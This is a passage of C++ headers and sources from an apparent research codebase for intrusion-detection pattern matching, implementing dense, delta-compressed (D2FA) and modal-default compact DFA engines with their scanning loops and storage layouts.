  static constexpr const char* kEngineName = "d2fa";

  D2fa() = default;
  /// Compress an existing dense DFA. Match behaviour is identical by
  /// construction; only the storage layout changes.
  explicit D2fa(const Dfa& dfa, const D2faOptions& options = {},
                D2faStats* stats = nullptr);

  [[nodiscard]] std::uint32_t state_count() const { return state_count_; }
  [[nodiscard]] std::uint32_t start() const { return start_; }
  [[nodiscard]] std::uint16_t column_count() const { return ncols_; }
  [[nodiscard]] std::uint32_t accepting_state_count() const { return accept_states_; }
  [[nodiscard]] std::uint32_t max_match_id() const { return max_match_id_; }
  [[nodiscard]] std::uint32_t root_count() const {
    return static_cast<std::uint32_t>(dense_rows_.size() / ncols_);
  }
  [[nodiscard]] std::uint32_t max_chain() const { return max_chain_; }
  [[nodiscard]] std::uint64_t exception_entries() const { return exception_entries_; }

  // --- Tagged-state scan representation ---
  //
  // A naive delta scan pays two dependent loads on the HOT path: defaults_[s]
  // to learn whether s is a root, then the root's dense row — one full
  // load-to-use latency more per byte than the dense table's single load,
  // which is most of D2FA's throughput gap (knob sweeps barely move it).
  // So stored transition *targets* carry their routing metadata inline:
  //
  //   bit 31 (kTagRoot)    target is a forest root; low bits index its row
  //   bit 30 (kTagAccept)  target is an accepting state
  //   bits 0..29           dense-row index (root) or raw state id (non-root)
  //
  // dense_rows_ holds tagged values IN MEMORY ONLY (serialization converts
  // to/from raw state ids, keeping the artifact format unchanged), so a
  // root-resident flow steps with exactly one dependent load per byte —
  // the same chain the dense table pays — and the accept test is one AND.
  // The chain walk survives only on non-root states, which root_depth and
  // the similarity threshold make cold by construction. Two tag bits cap
  // state_count at 2^30; a dense table near that size would be terabytes,
  // and deserialize rejects anything larger.
  static constexpr std::uint32_t kTagRoot = 0x80000000u;
  static constexpr std::uint32_t kTagAccept = 0x40000000u;
  static constexpr std::uint32_t kTagIdMask = 0x3fffffffu;

  /// Tagged value for a raw state id (entry into a scan loop).
  [[nodiscard]] std::uint32_t tag_state(std::uint32_t raw) const {
    const std::uint32_t a = raw < accept_states_ ? kTagAccept : 0u;
    const std::uint32_t d = defaults_[raw];
    return (d & kRootFlag) != 0 ? (d | a) : (raw | a);
  }

  /// Raw state id behind a tagged value (accept lookup, context write-back).
  [[nodiscard]] std::uint32_t untag(std::uint32_t v) const {
    return (v & kTagRoot) != 0 ? root_raw_[v & kTagIdMask] : (v & kTagIdMask);
  }

  [[nodiscard]] static bool tagged_accept(std::uint32_t v) {
    return (v & kTagAccept) != 0;
  }

  /// One tagged transition: single dense load for roots, chain walk for the
  /// cold non-root states.
  [[nodiscard]] std::uint32_t next_tagged(std::uint32_t v, unsigned char byte) const {
    const std::uint8_t col = byte_to_col_[byte];
    if ((v & kTagRoot) != 0)
      return dense_rows_[static_cast<std::size_t>(v & kTagIdMask) * ncols_ + col];
    return next_cold(v & kTagIdMask, col);
  }

  /// Raw-id transition (parity tests, artifact validation, cold callers).
  [[nodiscard]] std::uint32_t next(std::uint32_t state, unsigned char byte) const {
    return untag(next_tagged(tag_state(state), byte));
  }

  [[nodiscard]] std::pair<const std::uint32_t*, const std::uint32_t*> accepts(
      std::uint32_t state) const {
    return {accept_ids_.data() + accept_offsets_[state],
            accept_ids_.data() + accept_offsets_[state + 1]};
  }

  /// Image: defaults + exception row index + exception byte stream + root
  /// dense rows (+ row -> raw-id map) + accept CSR + byte->column map.
  [[nodiscard]] std::size_t memory_image_bytes() const {
    return defaults_.size() * sizeof(std::uint32_t) +
           row_offsets_.size() * sizeof(std::uint32_t) + exc_.size() +
           dense_rows_.size() * sizeof(std::uint32_t) +
           root_raw_.size() * sizeof(std::uint32_t) + 256 +
           accept_offsets_.size() * sizeof(std::uint32_t) +
           accept_ids_.size() * sizeof(std::uint32_t);
  }

  /// Compression ratio vs. the dense compressed-alphabet layout (< 1 is
  /// smaller; the 5k-fixture acceptance bar is <= 0.25, i.e. >= 4x).
  [[nodiscard]] double compression_vs_dense(const Dfa& dfa) const {
    return static_cast<double>(memory_image_bytes()) /
           static_cast<double>(dfa.memory_image_bytes(false));
  }

  /// Re-materialize the full dense table (state_count * ncols), e.g. to
  /// rebuild the SIMD prefilter proof after loading a delta-only artifact.
  [[nodiscard]] std::vector<std::uint32_t> expand_table() const;

  // --- Engine/Context split (uniform API across all engines) ---

  struct Context {
    std::uint32_t state = 0;
  };

  [[nodiscard]] Context make_context() const { return Context{start_}; }
  void reset(Context& ctx) const { ctx.state = start_; }
  [[nodiscard]] std::size_t context_bytes() const { return sizeof(std::uint32_t); }

  /// The flow's current automaton state (profiler state-visit sampling).
  [[nodiscard]] std::uint32_t context_state(const Context& ctx) const {
    return ctx.state;
  }

  // InlineContext small-state API (tiered flow table): one state word is
  // already hot-slot sized, so the inline context IS the context.
  using InlineContext = Context;
  [[nodiscard]] bool inline_contexts_ok() const { return true; }
  [[nodiscard]] InlineContext make_inline_context() const { return make_context(); }
  [[nodiscard]] Context expand_inline(const InlineContext& ic) const { return ic; }

  /// Feed a chunk through `ctx`. Thread-safe with distinct contexts. The
  /// loop runs on tagged states (see kTagRoot above): root-resident bytes
  /// cost one dense load, and the accept test is a bit check on the value
  /// just loaded — no second indexed lookup on the hot path.
  template <typename Sink>
  void feed(Context& ctx, const std::uint8_t* data, std::size_t size, std::uint64_t base,
            Sink&& sink) const {
    const std::uint8_t* cols = byte_to_col_.data();
    const std::uint32_t* rows = dense_rows_.data();
    const std::uint32_t ncols = ncols_;
    std::uint32_t v = tag_state(ctx.state);
    for (std::size_t i = 0; i < size; ++i) {
      const std::uint8_t col = cols[data[i]];
      v = (v & kTagRoot) != 0
              ? rows[static_cast<std::size_t>(v & kTagIdMask) * ncols + col]
              : next_cold(v & kTagIdMask, col);
      if (tagged_accept(v)) [[unlikely]] {
        const auto [first, last] = accepts(untag(v));
        for (const auto* it = first; it != last; ++it) sink(*it, base + i);
      }
    }
    ctx.state = untag(v);
  }

  using FeedJob = scan::FeedJob<Context>;

  /// Batch scan (see Dfa::feed_many for the contract). Jobs run one at a
  /// time, in order: interleaving tagged chain walks regresses (the same
  /// reason CompactDfa clamps to one lane), and a sequential pass keeps the
  /// per-job byte/match order exactly feed()'s. sink(job_index, id, end).
  template <typename Sink>
  void feed_many(FeedJob* jobs, std::size_t count, Sink&& sink,
                 std::size_t lanes = scan::kDefaultLanes) const {
    (void)lanes;
    for (std::size_t j = 0; j < count; ++j) {
      if (jobs[j].size == 0) continue;
      feed(*jobs[j].ctx, jobs[j].data, jobs[j].size, jobs[j].base,
           [&](std::uint32_t id, std::uint64_t end) { sink(j, id, end); });
    }
  }

  /// Binary (de)serialization (the MFAC v3 delta-table section).
  /// deserialize fully validates the encoding: exception rows must decode
  /// (stride, ascending columns, in-range targets) and every default chain
  /// must terminate at a root within the recorded chain bound.
  void serialize(util::BinWriter& w) const;
  static bool deserialize(util::BinReader& r, D2fa& out);

 private:
  /// High bit of defaults_[s]: s is a forest root; low 31 bits index its
  /// dense row. Clear: low bits are the default-parent state id. (Same bit
  /// value as kTagRoot, but defaults_ entries carry no accept bit.)
  static constexpr std::uint32_t kRootFlag = 0x80000000u;

  /// Chain walk for a non-root raw state id; returns a tagged value.
  /// Bounded by construction: at most max_chain_ default hops, then a
  /// root's dense row resolves unconditionally.
  [[nodiscard]] std::uint32_t next_cold(std::uint32_t s, std::uint8_t col) const {
    for (;;) {
      const std::uint32_t d = defaults_[s];
      if ((d & kRootFlag) != 0)  // dense_rows_ entries are already tagged
        return dense_rows_[static_cast<std::size_t>(d & ~kRootFlag) * ncols_ + col];
      const std::uint32_t lo = row_offsets_[s];
      const std::uint32_t hi = row_offsets_[s + 1];
      if (lo < hi) {
        // Row layout: [width code][col][delta]... with a fixed per-row
        // delta width, so the scan is a constant-stride walk; columns are
        // ascending, allowing early exit without decoding deltas.
        const std::uint32_t w = 1u << exc_[lo];
        const std::uint32_t stride = 1 + w;
        for (std::uint32_t p = lo + 1; p < hi; p += stride) {
          if (exc_[p] == col) return tag_state(d + unzigzag(load_le(&exc_[p + 1], w)));
          if (exc_[p] > col) break;
        }
      }
      s = d;
    }
  }

  static std::uint32_t load_le(const std::uint8_t* p, std::uint32_t w) {
    std::uint32_t v = p[0];
    if (w >= 2) v |= static_cast<std::uint32_t>(p[1]) << 8;
    if (w == 4)
      v |= (static_cast<std::uint32_t>(p[2]) << 16) |
           (static_cast<std::uint32_t>(p[3]) << 24);
    return v;
  }
  /// Zigzag of (target - parent): small bidirectional deltas take 1 byte.
  static std::uint32_t zigzag(std::int32_t n) {
    return (static_cast<std::uint32_t>(n) << 1) ^
           static_cast<std::uint32_t>(n >> 31);
  }
  static std::uint32_t unzigzag(std::uint32_t z) {
    return (z >> 1) ^ (~(z & 1) + 1);
  }

  std::uint32_t state_count_ = 0;
  std::uint32_t start_ = 0;
  std::uint32_t accept_states_ = 0;
  std::uint32_t max_match_id_ = 0;
  std::uint16_t ncols_ = 0;
  std::uint32_t max_chain_ = 0;
  std::uint64_t exception_entries_ = 0;
  std::array<std::uint8_t, 256> byte_to_col_{};
  std::vector<std::uint32_t> defaults_;     // per state: parent id or root flag
  std::vector<std::uint32_t> row_offsets_;  // state_count + 1, into exc_
  std::vector<std::uint8_t> exc_;          // delta-encoded exception rows
  std::vector<std::uint32_t> dense_rows_;  // root_count * ncols, TAGGED targets
  std::vector<std::uint32_t> root_raw_;    // dense row index -> raw state id
  std::vector<std::uint32_t> accept_offsets_;
  std::vector<std::uint32_t> accept_ids_;
};

/// Back-compat wrapper (engine pointer + one Context); same Match contract
/// as DfaScanner.
class D2faScanner {
 public:
  explicit D2faScanner(const D2fa& dfa) : dfa_(&dfa), ctx_(dfa.make_context()) {}

  void reset() { dfa_->reset(ctx_); }

  template <typename Sink>
  void feed(const std::uint8_t* data, std::size_t size, std::uint64_t base, Sink&& sink) {
    dfa_->feed(ctx_, data, size, base, sink);
  }

  MatchVec scan(const std::uint8_t* data, std::size_t size) {
    reset();
    CollectingSink sink;
    feed(data, size, 0, sink);
    return std::move(sink.matches);
  }
  MatchVec scan(const std::string& data) {
    return scan(reinterpret_cast<const std::uint8_t*>(data.data()), data.size());
  }

 private:
  const D2fa* dfa_;
  D2fa::Context ctx_;
};

}  // namespace mfa::dfa
