// DFA: subset construction, byte-class compression, minimization, scanning.
//
// This is both the paper's DFA baseline (dense 256-wide transition table,
// fastest matching, exponential worst-case size — Sec. I-A) and the
// character-DFA inside the MFA/HFA/XFA engines (Fig. 1 "Character DFA").
// Construction takes the epsilon-free NFA and explores reachable state
// subsets; a state cap makes "DFA fails to construct B217p" (Fig. 3) an
// observable outcome instead of an OOM.
#pragma once

#include <array>
#include <cstdint>
#include <optional>
#include <vector>

#include "nfa/nfa.h"
#include "simd/dense_scan.h"
#include "util/binio.h"
#include "util/interleave.h"
#include "util/match.h"

namespace mfa::dfa {

struct BuildOptions {
  /// Abort construction when more than this many DFA states are discovered.
  /// Enforced exactly at insertion time: a build whose reachable subset
  /// count is precisely max_states succeeds; interning the (max_states+1)th
  /// subset fails immediately (the Fig. 3 "DFA fails to construct" outcome,
  /// no longer one state late).
  std::uint32_t max_states = 1u << 20;
  /// Merge equivalent states (Moore partition refinement) after subset
  /// construction. Off by default to mirror standard DFA construction.
  bool minimize = false;
  /// Worker threads for subset construction. 1 = the sequential explorer;
  /// 0 = one per hardware thread. Any thread count produces byte-identical
  /// automata: parallel exploration assigns provisional state ids in race
  /// order, then a canonical BFS renumbering (start first, successors in
  /// byte-class order) restores exactly the sequential numbering.
  std::uint32_t threads = 1;
};

struct BuildStats {
  double seconds = 0.0;           ///< wall time spent in construction
  std::uint32_t states = 0;       ///< states discovered (pre-minimization)
  std::uint32_t minimized = 0;    ///< states after minimization (== states if off)
  bool failed = false;            ///< true if max_states was exceeded
};

class Dfa {
 public:
  /// Stable engine label used by telemetry exporters and bench reports.
  static constexpr const char* kEngineName = "dfa";

  [[nodiscard]] std::uint32_t state_count() const { return state_count_; }
  [[nodiscard]] std::uint32_t start() const { return start_; }
  [[nodiscard]] std::uint16_t column_count() const { return ncols_; }
  [[nodiscard]] std::uint32_t accepting_state_count() const { return accept_states_; }
  [[nodiscard]] std::uint32_t max_match_id() const { return max_match_id_; }

  [[nodiscard]] std::uint32_t next(std::uint32_t state, unsigned char byte) const {
    return table_[static_cast<std::size_t>(state) * ncols_ + byte_to_col_[byte]];
  }

  /// Accepting states are remapped to ids [0, accepting_state_count()).
  [[nodiscard]] bool is_accepting(std::uint32_t state) const {
    return state < accept_states_;
  }

  /// Match ids of an accepting state (sorted, unique).
  [[nodiscard]] std::pair<const std::uint32_t*, const std::uint32_t*> accepts(
      std::uint32_t state) const {
    return {accept_ids_.data() + accept_offsets_[state],
            accept_ids_.data() + accept_offsets_[state + 1]};
  }

  /// Memory image size. `full_alphabet` accounts a raw 256-wide table (the
  /// paper's DFA baseline accounting: C7p = 244k states ~= 250 MB); with
  /// false, the byte-class-compressed layout actually used for scanning is
  /// accounted (what MFA images use, Fig. 2).
  [[nodiscard]] std::size_t memory_image_bytes(bool full_alphabet) const;

  // Raw access for the scanning hot loop and for the HFA/XFA engines that
  // extend this table.
  [[nodiscard]] const std::uint32_t* table_data() const { return table_.data(); }
  [[nodiscard]] const std::uint8_t* byte_columns() const { return byte_to_col_.data(); }

  // --- Engine/Context split (uniform API across all six engines) ---
  // The Dfa itself is the immutable, shareable Engine; per-flow state is
  // this one-word Context. See DESIGN.md "Engine/Context split & pipeline".

  struct Context {
    std::uint32_t state = 0;
  };

  [[nodiscard]] Context make_context() const { return Context{start_}; }
  void reset(Context& ctx) const { ctx.state = start_; }

  /// The flow's current automaton state, for profiler state-visit sampling
  /// (uniform hook across all six engines).
  [[nodiscard]] std::uint32_t context_state(const Context& ctx) const {
    return ctx.state;
  }

  /// Per-flow context is a single DFA state (paper Sec. III-B).
  [[nodiscard]] std::size_t context_bytes() const { return sizeof(std::uint32_t); }

  // InlineContext small-state API (tiered flow table): a DFA's whole
  // per-flow state already fits a hot-table slot, so the inline context IS
  // the context — feed/feed_many apply unchanged.
  using InlineContext = Context;
  [[nodiscard]] bool inline_contexts_ok() const { return true; }
  [[nodiscard]] InlineContext make_inline_context() const { return make_context(); }
  [[nodiscard]] Context expand_inline(const InlineContext& ic) const { return ic; }

  /// Feed a chunk through `ctx`; `base` is the stream offset of data[0].
  /// Thread-safe for concurrent calls with distinct contexts.
  template <typename Sink>
  void feed(Context& ctx, const std::uint8_t* data, std::size_t size, std::uint64_t base,
            Sink&& sink) const {
    const std::uint32_t* table = table_.data();
    const std::uint8_t* cols = byte_to_col_.data();
    const std::uint32_t ncols = ncols_;
    const std::uint32_t naccept = accept_states_;
    std::uint32_t s = ctx.state;
    for (std::size_t i = 0; i < size; ++i) {
      s = table[static_cast<std::size_t>(s) * ncols + cols[data[i]]];
      if (s < naccept) {
        const auto [first, last] = accepts(s);
        for (const auto* it = first; it != last; ++it) sink(*it, base + i);
      }
    }
    ctx.state = s;
  }

  using FeedJob = scan::FeedJob<Context>;

  /// Advance many independent flow contexts through the table in lockstep
  /// (K-way interleaved scan, K = `lanes`): each inner iteration issues one
  /// transition load per lane, so distinct flows' dependent load chains
  /// overlap in the memory system instead of serializing. Per-job byte
  /// order (and therefore per-flow match semantics) is identical to feed();
  /// only cross-job work interleaves. sink(job_index, id, end_offset).
  /// Jobs must reference distinct contexts.
  template <typename Sink>
  void feed_many(FeedJob* jobs, std::size_t count, Sink&& sink,
                 std::size_t lanes = scan::kDefaultLanes) const {
    // Routed through the runtime-dispatched dense kernel: AVX2 gathers when
    // the CPU has them (8 next-state loads per instruction), the scalar
    // interleaved kernel otherwise — same semantics either way.
    simd::dense_interleaved_scan(
        table_.data(), ncols_, byte_to_col_.data(), accept_states_, jobs, count,
        lanes, [&](std::size_t job, std::uint32_t s, std::uint64_t end) {
          const auto [first, last] = accepts(s);
          for (const auto* it = first; it != last; ++it) sink(job, *it, end);
        });
  }

  /// Binary (de)serialization for compiled-automaton files. deserialize
  /// validates structural invariants (transition targets in range, CSR
  /// monotone) and fails the reader on any violation. `allow_empty_table`
  /// accepts a headless image (metadata + accept tables, zero-length
  /// transition table) — the MFAC v3 delta-table layout, where transitions
  /// live in a D2fa and the dense table is not persisted.
  void serialize(util::BinWriter& w) const;
  static bool deserialize(util::BinReader& r, Dfa& out, bool allow_empty_table = false);

  // --- dense-table lifecycle for the delta-encoded (D2FA) workflow ---
  // A delta-mode Mfa keeps this object only for its metadata (byte classes,
  // start, accept geometry); the dense table is dropped after the D2fa and
  // the prefilter proof are derived from it, and restored transiently when
  // a loader needs to re-derive them.

  /// Discard the dense transition table (frees state_count*ncols words).
  /// After this, next()/feed()/feed_many()/table_data() are invalid; all
  /// metadata and accept accessors remain usable.
  void drop_table() {
    table_.clear();
    table_.shrink_to_fit();
  }
  [[nodiscard]] bool has_table() const { return !table_.empty(); }

  /// Reinstall a dense table (state_count*ncols targets, each in range).
  /// Returns false (leaving the object headless) on a geometry or range
  /// violation.
  bool restore_table(std::vector<std::uint32_t> table) {
    if (table.size() != static_cast<std::size_t>(state_count_) * ncols_) return false;
    for (const std::uint32_t t : table)
      if (t >= state_count_) return false;
    table_ = std::move(table);
    return true;
  }

 private:
  friend std::optional<Dfa> build_dfa(const nfa::Nfa&, const BuildOptions&, BuildStats*);
  std::uint32_t state_count_ = 0;
  std::uint32_t start_ = 0;
  std::uint32_t accept_states_ = 0;
  std::uint32_t max_match_id_ = 0;
  std::uint16_t ncols_ = 0;
  std::array<std::uint8_t, 256> byte_to_col_{};
  std::vector<std::uint32_t> table_;           // state_count * ncols
  std::vector<std::uint32_t> accept_offsets_;  // accept_states + 1
  std::vector<std::uint32_t> accept_ids_;
};

/// Subset-construct a DFA from an epsilon-free NFA. Returns nullopt (and
/// stats->failed) if the state cap is exceeded — the B217p outcome.
std::optional<Dfa> build_dfa(const nfa::Nfa& nfa, const BuildOptions& options = {},
                             BuildStats* stats = nullptr);

/// Byte equivalence classes of an NFA: bytes that every transition label
/// treats identically share a column. Returns the byte->class map and the
/// class count. Exposed for tests and for the trace generator.
std::pair<std::array<std::uint8_t, 256>, std::uint16_t> compute_byte_classes(
    const nfa::Nfa& nfa);

/// Back-compat wrapper over the Engine/Context split: an engine pointer
/// plus one owned Context, with the historical scan()/feed() surface
/// (paper Sec. V: ~19 CpB in the authors' OCaml build; fastest baseline).
class DfaScanner {
 public:
  explicit DfaScanner(const Dfa& dfa) : dfa_(&dfa), ctx_(dfa.make_context()) {}

  void reset() { dfa_->reset(ctx_); }
  [[nodiscard]] std::uint32_t state() const { return ctx_.state; }
  void set_state(std::uint32_t s) { ctx_.state = s; }

  template <typename Sink>
  void feed(const std::uint8_t* data, std::size_t size, std::uint64_t base, Sink&& sink) {
    dfa_->feed(ctx_, data, size, base, sink);
  }

  MatchVec scan(const std::uint8_t* data, std::size_t size) {
    reset();
    CollectingSink sink;
    feed(data, size, 0, sink);
    return std::move(sink.matches);
  }
  MatchVec scan(const std::string& data) {
    return scan(reinterpret_cast<const std::uint8_t*>(data.data()), data.size());
  }

  /// Per-flow context is a single DFA state.
  [[nodiscard]] static std::size_t context_bytes() { return sizeof(std::uint32_t); }

 private:
  const Dfa* dfa_;
  Dfa::Context ctx_;
};

}  // namespace mfa::dfa
