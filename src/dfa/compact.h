// Modal-default compressed DFA ("D2FA-lite").
//
// Related-work context (paper Sec. II): D2FA/CompactDFA-style approaches
// [12][18] shrink DFA tables by storing, per state, only the transitions
// that differ from a default. IDS automata are ideal for this: from any
// state, most bytes lead to the same "restart-ish" successor — for plain
// string sets that is near the root, and for dot-star-bit product states
// it is the bit-preserving restart state. Each row therefore stores its
// *modal* target (the most frequent successor) as the default plus sparse
// exceptions. Default resolution is depth-0 (no chains), so scanning costs
// one short exception scan per byte — trading the paper's
// throughput-vs-memory knob in the opposite direction from MFA (MFA keeps
// the dense table small by removing *states*; this keeps all states but
// stores fewer *transitions*).
#pragma once

#include <cstdint>
#include <vector>

#include "dfa/dfa.h"

namespace mfa::dfa {

class CompactDfa {
 public:
  /// Stable engine label used by telemetry exporters and bench reports.
  static constexpr const char* kEngineName = "compact_dfa";

  /// Compress an existing DFA. Match behaviour is identical by
  /// construction; only the storage layout changes.
  explicit CompactDfa(const Dfa& dfa);

  [[nodiscard]] std::uint32_t state_count() const { return state_count_; }
  [[nodiscard]] std::uint32_t start() const { return start_; }
  [[nodiscard]] std::uint32_t accepting_state_count() const { return accept_states_; }

  [[nodiscard]] std::uint32_t next(std::uint32_t state, unsigned char byte) const {
    const std::uint8_t col = byte_to_col_[byte];
    const std::uint32_t lo = row_offsets_[state];
    const std::uint32_t hi = row_offsets_[state + 1];
    // Rows are short and sorted by column; linear scan beats binary search
    // at these lengths and is branch-predictable.
    for (std::uint32_t i = lo; i < hi; ++i) {
      if (entries_[i].col == col) return entries_[i].target;
      if (entries_[i].col > col) break;
    }
    return default_target_[state];
  }

  [[nodiscard]] std::pair<const std::uint32_t*, const std::uint32_t*> accepts(
      std::uint32_t state) const {
    return {accept_ids_.data() + accept_offsets_[state],
            accept_ids_.data() + accept_offsets_[state + 1]};
  }

  /// Stored exception transitions (those differing from their row default).
  [[nodiscard]] std::size_t entry_count() const { return entries_.size(); }

  /// Image: sparse entries (5 B each: col + target) + row index + one
  /// default target per state + accept CSR + byte->column map.
  [[nodiscard]] std::size_t memory_image_bytes() const {
    return entries_.size() * 5 + row_offsets_.size() * sizeof(std::uint32_t) +
           default_target_.size() * sizeof(std::uint32_t) + 256 +
           accept_offsets_.size() * sizeof(std::uint32_t) +
           accept_ids_.size() * sizeof(std::uint32_t);
  }

  /// Compression ratio vs. the dense compressed-alphabet layout.
  [[nodiscard]] double compression_vs_dense(const Dfa& dfa) const {
    return static_cast<double>(memory_image_bytes()) /
           static_cast<double>(dfa.memory_image_bytes(false));
  }

  // --- Engine/Context split (uniform API across all six engines) ---

  struct Context {
    std::uint32_t state = 0;
  };

  [[nodiscard]] Context make_context() const { return Context{start_}; }
  void reset(Context& ctx) const { ctx.state = start_; }
  [[nodiscard]] std::size_t context_bytes() const { return sizeof(std::uint32_t); }

  /// The flow's current automaton state (profiler state-visit sampling).
  [[nodiscard]] std::uint32_t context_state(const Context& ctx) const {
    return ctx.state;
  }

  // InlineContext small-state API (tiered flow table): one state word is
  // already hot-slot sized, so the inline context IS the context.
  using InlineContext = Context;
  [[nodiscard]] bool inline_contexts_ok() const { return true; }
  [[nodiscard]] InlineContext make_inline_context() const { return make_context(); }
  [[nodiscard]] Context expand_inline(const InlineContext& ic) const { return ic; }

  /// Feed a chunk through `ctx`. Thread-safe with distinct contexts.
  template <typename Sink>
  void feed(Context& ctx, const std::uint8_t* data, std::size_t size, std::uint64_t base,
            Sink&& sink) const {
    std::uint32_t s = ctx.state;
    const std::uint32_t naccept = accept_states_;
    for (std::size_t i = 0; i < size; ++i) {
      s = next(s, data[i]);
      if (s < naccept) {
        const auto [first, last] = accepts(s);
        for (const auto* it = first; it != last; ++it) sink(*it, base + i);
      }
    }
    ctx.state = s;
  }

  using FeedJob = scan::FeedJob<Context>;

  /// Batch scan over the sparse layout (see Dfa::feed_many for the
  /// contract). Deliberately clamped to ONE lane, i.e. sequential per-job
  /// scanning: the banded row's exception scan is a short data-dependent
  /// *branchy* loop, and interleaving K of them multiplies the live branch
  /// state the predictor must carry — measured on the PR 3 bench, K=8 was
  /// honestly SLOWER than K=1 here (the "compact DFA regresses" note). The
  /// dense table's straight-line step profits from lane interleaving; this
  /// layout does not, so batched and sequential are now the same code path
  /// and bench_batch asserts batched-never-slower (--assert-compact-batched-pct).
  /// sink(job_index, id, end_offset).
  template <typename Sink>
  void feed_many(FeedJob* jobs, std::size_t count, Sink&& sink,
                 std::size_t lanes = scan::kDefaultLanes) const {
    (void)lanes;
    const std::uint32_t* offsets = row_offsets_.data();
    scan::interleaved_scan(
        jobs, count, /*lanes=*/1, accept_states_,
        [this](std::uint32_t s, std::uint8_t b) { return next(s, b); },
        [=](std::uint32_t s) { scan::prefetch_ro(offsets + s); },
        [&](std::size_t job, std::uint32_t s, std::uint64_t end) {
          const auto [first, last] = accepts(s);
          for (const auto* it = first; it != last; ++it) sink(job, *it, end);
        });
  }

 private:
  struct Entry {
    std::uint8_t col;
    std::uint32_t target;
  };
  std::uint32_t state_count_ = 0;
  std::uint32_t start_ = 0;
  std::uint32_t accept_states_ = 0;
  std::array<std::uint8_t, 256> byte_to_col_{};
  std::vector<std::uint32_t> default_target_;  // per state: the row's modal target
  std::vector<std::uint32_t> row_offsets_;     // state_count + 1
  std::vector<Entry> entries_;              // sorted by (state, col)
  std::vector<std::uint32_t> accept_offsets_;
  std::vector<std::uint32_t> accept_ids_;
};

/// Back-compat wrapper (engine pointer + one Context); same Match contract
/// as DfaScanner.
class CompactDfaScanner {
 public:
  explicit CompactDfaScanner(const CompactDfa& dfa) : dfa_(&dfa), ctx_(dfa.make_context()) {}

  void reset() { dfa_->reset(ctx_); }

  template <typename Sink>
  void feed(const std::uint8_t* data, std::size_t size, std::uint64_t base, Sink&& sink) {
    dfa_->feed(ctx_, data, size, base, sink);
  }

  MatchVec scan(const std::uint8_t* data, std::size_t size) {
    reset();
    CollectingSink sink;
    feed(data, size, 0, sink);
    return std::move(sink.matches);
  }
  MatchVec scan(const std::string& data) {
    return scan(reinterpret_cast<const std::uint8_t*>(data.data()), data.size());
  }

 private:
  const CompactDfa* dfa_;
  CompactDfa::Context ctx_;
};

}  // namespace mfa::dfa
