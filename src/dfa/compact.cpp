#include "dfa/compact.h"

#include <unordered_map>

namespace mfa::dfa {

CompactDfa::CompactDfa(const Dfa& dfa) {
  state_count_ = dfa.state_count();
  start_ = dfa.start();
  accept_states_ = dfa.accepting_state_count();

  // Copy the byte->column map.
  for (unsigned b = 0; b < 256; ++b) byte_to_col_[b] = dfa.byte_columns()[b];
  const std::uint16_t ncols = dfa.column_count();
  // Representative byte per column for probing the source DFA.
  std::vector<unsigned char> rep(ncols);
  for (int b = 255; b >= 0; --b) rep[byte_to_col_[static_cast<unsigned>(b)]] =
      static_cast<unsigned char>(b);

  default_target_.resize(state_count_);
  row_offsets_.assign(state_count_ + 1, 0);
  std::vector<std::uint32_t> row(ncols);
  std::unordered_map<std::uint32_t, std::uint16_t> frequency;
  for (std::uint32_t s = 0; s < state_count_; ++s) {
    row_offsets_[s] = static_cast<std::uint32_t>(entries_.size());
    frequency.clear();
    std::uint32_t modal = 0;
    std::uint16_t modal_count = 0;
    for (std::uint16_t c = 0; c < ncols; ++c) {
      row[c] = dfa.next(s, rep[c]);
      const std::uint16_t count = ++frequency[row[c]];
      if (count > modal_count) {
        modal_count = count;
        modal = row[c];
      }
    }
    default_target_[s] = modal;
    for (std::uint16_t c = 0; c < ncols; ++c) {
      if (row[c] != modal)
        entries_.push_back(Entry{static_cast<std::uint8_t>(c), row[c]});
    }
  }
  row_offsets_[state_count_] = static_cast<std::uint32_t>(entries_.size());

  // Accept tables: identical geometry to the source DFA.
  accept_offsets_.assign(accept_states_ + 1, 0);
  for (std::uint32_t s = 0; s < accept_states_; ++s) {
    const auto [first, last] = dfa.accepts(s);
    accept_offsets_[s + 1] =
        accept_offsets_[s] + static_cast<std::uint32_t>(last - first);
    accept_ids_.insert(accept_ids_.end(), first, last);
  }
}

}  // namespace mfa::dfa
