#include "dfa/d2fa.h"

#include <algorithm>
#include <cstring>
#include <deque>

#include "util/timing.h"

namespace mfa::dfa {

namespace {

/// Delta width code for a zigzagged delta: 0 -> 1 byte, 1 -> 2, 2 -> 4.
std::uint8_t width_code(std::uint32_t z) {
  if (z <= 0xffu) return 0;
  if (z <= 0xffffu) return 1;
  return 2;
}

void store_le(std::vector<std::uint8_t>& out, std::uint32_t v, std::uint32_t w) {
  out.push_back(static_cast<std::uint8_t>(v));
  if (w >= 2) out.push_back(static_cast<std::uint8_t>(v >> 8));
  if (w == 4) {
    out.push_back(static_cast<std::uint8_t>(v >> 16));
    out.push_back(static_cast<std::uint8_t>(v >> 24));
  }
}

}  // namespace

D2fa::D2fa(const Dfa& dfa, const D2faOptions& options, D2faStats* stats) {
  util::WallTimer timer;
  D2faStats local_stats;
  D2faStats& st = stats != nullptr ? *stats : local_stats;

  const std::uint32_t n = dfa.state_count();
  const std::uint16_t ncols = dfa.column_count();
  const std::uint32_t* table = dfa.table_data();

  state_count_ = n;
  start_ = dfa.start();
  accept_states_ = dfa.accepting_state_count();
  max_match_id_ = dfa.max_match_id();
  ncols_ = ncols;
  std::memcpy(byte_to_col_.data(), dfa.byte_columns(), 256);
  accept_offsets_.assign(accept_states_ + 1, 0);
  for (std::uint32_t s = 0; s < accept_states_; ++s) {
    const auto [first, last] = dfa.accepts(s);
    accept_offsets_[s + 1] =
        accept_offsets_[s] + static_cast<std::uint32_t>(last - first);
    accept_ids_.insert(accept_ids_.end(), first, last);
  }

  // BFS depth from the start state. Processing states shallow-first makes
  // every state's likely parents (the "restart-ish" targets its row points
  // back to) available as already-resolved candidates, so chain lengths
  // are known exactly when the parent is chosen — the diameter bound needs
  // no later fixup pass.
  std::vector<std::uint32_t> depth(n, UINT32_MAX);
  {
    std::deque<std::uint32_t> queue;
    depth[start_] = 0;
    queue.push_back(start_);
    while (!queue.empty()) {
      const std::uint32_t s = queue.front();
      queue.pop_front();
      for (std::uint16_t c = 0; c < ncols; ++c) {
        const std::uint32_t t = table[static_cast<std::size_t>(s) * ncols + c];
        if (depth[t] == UINT32_MAX) {
          depth[t] = depth[s] + 1;
          queue.push_back(t);
        }
      }
    }
  }
  std::vector<std::uint32_t> order(n);
  for (std::uint32_t s = 0; s < n; ++s) order[s] = s;
  std::stable_sort(order.begin(), order.end(), [&](std::uint32_t a, std::uint32_t b) {
    return depth[a] < depth[b];
  });

  // Choose each state's default parent: among the most frequent targets in
